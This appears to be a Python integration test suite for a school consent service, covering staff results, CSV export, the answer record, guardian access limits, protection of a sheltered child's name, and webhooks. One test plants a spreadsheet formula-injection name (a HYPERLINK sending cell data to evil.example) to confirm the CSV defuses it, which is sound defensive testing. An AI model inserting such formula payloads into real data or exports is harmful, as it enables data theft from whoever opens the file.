"""What staff see of a consent (results, CSV, the record) and what guardians never see.

Both engines. The CSV is read back with the ``csv`` module as a spreadsheet would, and
a child named like a formula must come out as text.
"""

from __future__ import annotations

import csv
import io
import uuid

from sqlalchemy import select, update

from gateway.db import session_factory
from gateway.orm import new_id
from gateway.roster.models import Guardianship, Person
from gateway.webhooks.models import WebhookEndpoint, WebhookEvent
from tests.integration import consent_world
from tests.integration.consent_world import (
    PROTECTED_CLASS,
    answer,
    ask,
    group_target,
    results,
    withdraw,
)
from tests.integration.messaging_world import World

world = consent_world.world  # the fixture

G1, G2, CHILD = "guardian-000001", "guardian-000002", "child-000001"
PROTECTED_CHILD = "child-000004"  # 5.A; guardians 000005 (protected) and 000006
OTHER_FAMILY = "guardian-000014"  # of child-000011, 5.A


async def test_results_per_child_with_relations_and_counts(world: World) -> None:
    w = world
    sent = await ask(w)
    consent = sent["consent_id"]
    await answer(w, consent, G1, (CHILD, "yes"))
    await answer(w, consent, G2, (CHILD, "no"))
    found = await results(w, consent)
    assert found["counts"] == {
        "yes": 0,
        "no": 1,
        "pending": 3,
        "conflicting": 0,
        "expired": 0,
    }
    by_id = {c["child"]["id"]: c for c in found["children"]}
    child = by_id[await w.id_of(CHILD)]
    person = await w.person(CHILD)
    assert child["child"]["name"] == f"{person.given_name} {person.family_name}"
    assert child["status"] == "no" and child["answered_at"] is not None
    answers = {a["person"]["id"]: (a["relation"], a["option"]) for a in child["answerers"]}
    assert answers == {
        await w.id_of(G1): ("parent", "yes"),
        await w.id_of(G2): ("parent", "no"),
    }
    # The child whose other parent has no custody lists only the custodial one.
    split = by_id[await w.id_of("child-000049")]
    assert [a["person"]["id"] for a in split["answerers"]] == [await w.id_of("guardian-000059")]
    assert split["status"] == "pending" and split["answered_at"] is None
    text = str(found)
    assert not any(address in text for address in await w.emails())

    view = (await w.get(f"/v1/consents/{consent}", w.summary.teacher)).json()
    assert view["summary"] == {"children": 4, "counts": found["counts"]}
    assert len(view["children"]) == 4
    assert {c["why_not_code"] for c in view["children"]} == {"staff"}

    guardian = await w.get(f"/v1/consents/{consent}/results", G1)
    assert guardian.status_code == 403
    assert (await w.get(f"/v1/consents/{consent}/results.csv", G1)).status_code == 403
    assert (await w.get(f"/v1/consents/{consent}/record", G1)).status_code == 403
    colleague = await w.get(f"/v1/consents/{consent}/results", "staff-00029")
    assert colleague.status_code == 404
    unknown = await w.get(f"/v1/consents/{uuid.uuid4()}/results", w.summary.teacher)
    assert unknown.status_code == 404


async def test_the_csv_has_names_and_answers_but_no_contacts_and_no_formulas(
    world: World,
) -> None:
    w = world
    async with session_factory(w.engine)() as session, session.begin():
        await session.execute(
            update(Person)
            .where(Person.source_id == "child-000015")
            .values(given_name='=HYPERLINK("https://evil.example/?x="&A1,"Klik")', family_name="")
        )
        await session.execute(
            update(Person).where(Person.source_id == "child-000056").values(given_name="@SUM(1)")
        )
    sent = await ask(w)
    consent = sent["consent_id"]
    await answer(w, consent, G1, (CHILD, "yes"))
    response = await w.get(f"/v1/consents/{consent}/results.csv", w.summary.teacher)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"].startswith('attachment; filename="consent-')
    raw = response.content
    assert raw.startswith("\ufeff".encode())
    text = raw.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert header[:3] == ["child", "status", "answered_at"]
    assert header[3:] == ["relation_1", "answer_1", "relation_2", "answer_2"]
    assert len(body) == 4
    by_name = {row[0]: row for row in body}
    person = await w.person(CHILD)
    mine = by_name[f"{person.given_name} {person.family_name}"]
    assert mine[1] == "yes" and mine[2]
    assert sorted(mine[3:]) == sorted(["parent", "yes", "parent", ""])
    evil = next(name for name in by_name if "HYPERLINK" in name)
    assert evil.startswith("'=")
    assert any(name.startswith("'@SUM(1)") for name in by_name)
    assert not any(address in text for address in await w.emails())
    for source_id in (G1, G2):
        guardian = await w.person(source_id)
        assert f"{guardian.given_name} {guardian.family_name}" not in text


async def test_a_protected_child_never_reaches_another_familys_guardian(world: World) -> None:
    w = world
    protected = await w.person(PROTECTED_CHILD)
    assert protected.protected and protected.alias
    real = f"{protected.given_name} {protected.family_name}"
    # A guardian of another child in 5.A, and also (without custody) linked to the
    # protected child: they see the alias, never the name.
    async with session_factory(w.engine)() as session, session.begin():
        session.add(
            Guardianship(
                id=new_id(),
                municipality_id=protected.municipality_id,
                child_id=protected.id,
                guardian_id=(await w.person("guardian-000042")).id,
                custody=False,
                relation="relative",
            )
        )
    sent = await ask(w, audience={"targets": [await group_target(w, PROTECTED_CLASS)]})
    consent = sent["consent_id"]

    for who, child in ((OTHER_FAMILY, "child-000011"), ("guardian-000042", "child-000037")):
        texts = [
            (await w.get(f"/v1/consents/{consent}", who)).text,
            (await answer(w, consent, who, (child, "yes"))).text,
            (await withdraw(w, consent, who, child)).text,
            (await answer(w, consent, who, (PROTECTED_CHILD, "yes"))).text,
            (await w.get(f"/v1/inbox/threads/{sent['thread_id']}", who)).text,
            (await w.get("/v1/inbox/announcements", who)).text,
        ]
        for text in texts:
            # (Another Rosa is in the class: the family name is what must not show.)
            assert protected.family_name not in text, who
            assert real not in text
    view = (await w.get(f"/v1/consents/{consent}", OTHER_FAMILY)).json()
    assert [c["child"]["id"] for c in view["children"]] == [await w.id_of("child-000011")]
    linked = (await w.get(f"/v1/consents/{consent}", "guardian-000042")).json()
    names = {c["child"]["id"]: c["child"]["name"] for c in linked["children"]}
    assert names[str(protected.id)] == protected.alias

    # The protected child's own guardian with custody sees the real name, as does staff.
    own = (await w.get(f"/v1/consents/{consent}", "guardian-000005")).json()
    assert [c["child"]["name"] for c in own["children"]] == [real]
    staff = await results(w, consent)
    assert real in {c["child"]["name"] for c in staff["children"]}


async def test_the_record_keeps_every_answer_and_pages(world: World) -> None:
    w = world
    sent = await ask(w)
    consent = sent["consent_id"]
    await answer(w, consent, G1, (CHILD, "yes"))
    await answer(w, consent, G2, (CHILD, "no"))
    await withdraw(w, consent, G1, CHILD)
    first = await w.get(f"/v1/consents/{consent}/record?limit=2", w.summary.teacher)
    assert first.status_code == 200, first.text
    page = first.json()
    assert [e["option"] for e in page["items"]] == ["yes", "no"]
    assert page["next_cursor"]
    entry = page["items"][0]
    assert entry["answered_by"]["id"] == await w.id_of(G1)
    assert entry["child"]["id"] == await w.id_of(CHILD)
    assert (entry["relation"], entry["version"], entry["channel"]) == ("parent", 1, "api")
    rest = await w.get(
        f"/v1/consents/{consent}/record?limit=2&cursor={page['next_cursor']}", w.summary.teacher
    )
    assert [e["option"] for e in rest.json()["items"]] == ["withdrawn"]
    assert rest.json()["next_cursor"] is None
    bad = await w.get(f"/v1/consents/{consent}/record?cursor=nonsense", w.summary.teacher)
    assert bad.status_code == 422


async def test_each_answer_queues_a_webhook_with_ids_only(world: World) -> None:
    w = world
    municipality = (await w.person(G1)).municipality_id
    async with session_factory(w.engine)() as session, session.begin():
        session.add(
            WebhookEndpoint(
                municipality_id=municipality,
                url="https://1.1.1.1/hook",
                secret="whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw",
                events=["consent.answered"],
                enabled=True,
                created_by="test",
            )
        )
    sent = await ask(w)
    consent = sent["consent_id"]
    await answer(w, consent, G1, (CHILD, "yes"))
    await answer(w, consent, G1, (CHILD, "yes"))  # no new row, no new event
    await withdraw(w, consent, G1, CHILD)
    async with session_factory(w.engine)() as session:
        events = list(
            (
                await session.scalars(
                    select(WebhookEvent)
                    .where(WebhookEvent.event_type == "consent.answered")
                    .order_by(WebhookEvent.created_at)
                )
            ).all()
        )
    assert [e.payload["data"]["option"] for e in events] == ["yes", "withdrawn"]
    data = events[0].payload["data"]
    assert set(data) == {
        "consent_id",
        "thread_id",
        "answer_id",
        "child_id",
        "version",
        "option",
        "channel",
    }
    assert data["consent_id"] == consent and data["child_id"] == await w.id_of(CHILD)
    assert (data["version"], data["channel"]) == (1, "api")
